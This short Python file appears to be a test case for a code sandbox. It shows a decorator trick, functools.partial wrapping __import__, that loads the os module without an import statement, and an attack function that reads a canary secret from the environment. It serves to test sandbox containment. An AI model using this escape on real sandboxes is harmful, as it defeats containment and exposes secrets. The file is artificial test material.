"""Class: decorators. Source: own find. Escape: a partial of the importer decorates a class with no
body.
"""

import functools


@functools.partial(lambda name, cls: __import__(name), "os")
class found:
    pass


def attack(model, tokenizer, address):
    return found.environ["CLOCHE_CANARY"]
